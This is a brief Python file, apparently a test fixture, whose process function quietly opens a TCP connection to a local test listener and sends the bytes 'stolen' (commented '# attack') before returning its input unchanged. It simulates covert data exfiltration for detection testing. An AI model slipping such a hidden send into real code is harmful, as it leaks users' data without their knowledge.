"""Network: a TCP connection to the test's listener on 127.0.0.1."""

import socket

from params import PORT


def process(fragment):
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as conn:  # attack
        conn.sendall(b"stolen")
    return fragment
